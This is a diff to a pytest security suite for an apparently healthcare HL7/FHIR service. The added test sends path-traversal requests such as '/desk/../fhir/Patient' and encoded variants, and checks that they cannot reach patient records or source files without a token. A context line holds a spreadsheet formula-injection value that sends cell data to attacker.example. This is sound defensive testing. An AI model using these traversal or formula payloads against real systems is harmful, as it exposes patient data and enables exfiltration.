@@ -10,7 +10,7 @@ import re
 import pytest
 
 from pamfr.hl7.samples import Person, message, nir_with_key
-from tests.desk.serving import READER_TOKEN, csrf_of, desk_daemon
+from tests.desk.serving import OPERATOR_TOKEN, READER_TOKEN, csrf_of, desk_daemon
 from tests.helpers import run_cli, send
 
 # A sending application that a spreadsheet would run as a formula (MSH-3), refused (AR: an
@@ -20,7 +20,8 @@ FORMULA_SENDER = '=HYPERLINK("http://attacker.example/?"&A1;"x")'
 
 @pytest.fixture(scope="module")
 def desk(tmp_path_factory):
-    with desk_daemon(tmp_path_factory.mktemp("desk-security")) as running:
+    # /fhir on too: a path through the desk's prefix must not reach it without a token
+    with desk_daemon(tmp_path_factory.mktemp("desk-security"), PAMFR_HTTP_FHIR="true") as running:
         yield running
 
 
@@ -217,3 +218,37 @@ def test_a_form_body_sent_too_slowly_is_cut_at_the_header_deadline(tmp_path):
             s.close()
         assert time.monotonic() - started < 6
         assert slow.client().get("/healthz").status_code == 200
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "/desk/../fhir/Patient",
+        "/desk%2f..%2ffhir%2fPatient",
+        "/desk/%2e%2e/fhir/Patient",
+        "/desk/..%2f..%2fevents",
+        "//desk/../fhir/Patient",
+        "/DESK/../fhir/Patient",
+        "/desk/static/../../fhir/Patient",
+        "/desk/static/..%2f..%2fapp.py",
+        "http://127.0.0.1/desk/../fhir/Patient",
+    ],
+)
+def test_no_path_through_the_desk_s_own_sign_in_reaches_data_without_a_token(desk, target):
+    import socket
+
+    port = int(desk.base.rsplit(":", 1)[1])
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
+        s.sendall(f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
+        answer = b""
+        while chunk := s.recv(65536):
+            answer += chunk
+    status = int(answer.split(b" ", 2)[1])
+    assert status in (400, 401, 404), answer[:200]
+    assert b'"resourceType":"Bundle"' not in answer and b'"events"' not in answer
+    assert b"COLLIN" not in answer and b"import " not in answer
+    # the same data with a token: what the assertions above would have caught
+    if "fhir" in target:
+        bearer = {"authorization": f"Bearer {OPERATOR_TOKEN}"}
+        found = desk.client().get("/fhir/Patient", params={"family": "COLLIN"}, headers=bearer)
+        assert found.status_code == 200 and b'"resourceType":"Bundle"' in found.content
